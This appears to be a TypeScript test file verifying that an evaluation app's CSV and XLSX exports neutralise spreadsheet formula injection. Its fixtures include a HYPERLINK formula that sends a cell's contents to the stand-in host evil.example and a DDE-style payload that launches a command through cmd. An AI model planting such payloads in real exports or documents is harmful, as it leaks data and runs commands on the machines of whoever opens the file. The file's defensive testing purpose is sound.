import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildTestApp, logInAs, type Session, type TestApp } from "../../helpers/build-app.ts";
import { readFixture } from "../../helpers/scenario.ts";
import { evaluationWithResponses } from "./setup.ts";

// Text a spreadsheet would run as a formula (an organisation's name, free-text answers) is written to the CSV with a
// leading `'` (OWASP); numbers, negative ones included, stay numbers; the XLSX keeps such text as text.

const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

let t: TestApp;
let evaluator: Session;
let evaluationId: number;
let responseId: number;

beforeAll(async () => {
  t = await buildTestApp();
  evaluator = await logInAs(t, "evaluator");
  const made = await evaluationWithResponses(t, evaluator, {
    questionnaireId: "small-survey",
    json: readFixture("small-survey.json"),
    sets: [
      {
        name: "@SUM(1+1)*cmd|' /C calc'!A0",
        data: {
          name: hyperlink,
          staff: 12,
          region: "osh",
          activities: ["outreach"],
          projects: [
            { project_name: "-2+3", budget: 0 },
            { project_name: "-12.5", budget: 7 },
            { project_name: "+1+1" },
          ],
          staffing: { lawyers: { count: -3, trained: true } },
        },
      },
    ],
  });
  evaluationId = made.evaluationId;
  responseId = made.responses[0]!.responseId!;
});
afterAll(() => t.close());

async function download(url: string) {
  const res = await t.app.inject({ method: "GET", url, headers: evaluator.headers });
  expect(res.statusCode, res.body).toBe(200);
  return res;
}

describe("CSV formula injection", () => {
  it("prefixes text cells that start like a formula with ' and leaves numbers alone", async () => {
    const res = await download(`/api/evaluations/${evaluationId}/export.csv`);
    const [header, row] = parse(res.body) as string[][];
    const cell = (key: string) => row![header!.indexOf(key)];
    expect(cell("response_id")).toBe(String(responseId));
    expect(cell("organization")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cell("name")).toBe(`'${hyperlink}`);
    expect(cell("staffing.lawyers.count")).toBe("-3");
    expect(cell("staff")).toBe("12");
    // No cell of the file starts with a formula character unless it is a plain number.
    for (const text of [...header!, ...row!]) {
      if (/^[=+\-@\t\r]/.test(text)) expect(text, text).toMatch(/^[+-]?\d+(\.\d+)?$/);
    }
  });

  it("covers the answers of dynamic panels in the CSV too", async () => {
    const res = await download(`/api/evaluations/${evaluationId}/export.csv`);
    const [header, row] = parse(res.body) as string[][];
    const cell = (key: string) => row![header!.indexOf(key)];
    expect(cell("projects[0].project_name")).toBe("'-2+3");
    expect(cell("projects[1].project_name")).toBe("-12.5");
    expect(cell("projects[2].project_name")).toBe("'+1+1");
  });

  it("stores the same text in the XLSX as text, never as a formula", async () => {
    const res = await download(`/api/evaluations/${evaluationId}/export.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("responses")!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
    const cell = (key: string) => sheet.getRow(2).getCell(header.indexOf(key) + 1);
    for (const [key, text] of [
      ["name", hyperlink],
      ["organization", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ] as const) {
      expect(cell(key).type, key).toBe(ExcelJS.ValueType.String);
      expect(cell(key).formula, key).toBeUndefined();
      expect(cell(key).value, key).toBe(text);
    }
    expect(cell("staffing.lawyers.count").value).toBe(-3);
  });
});
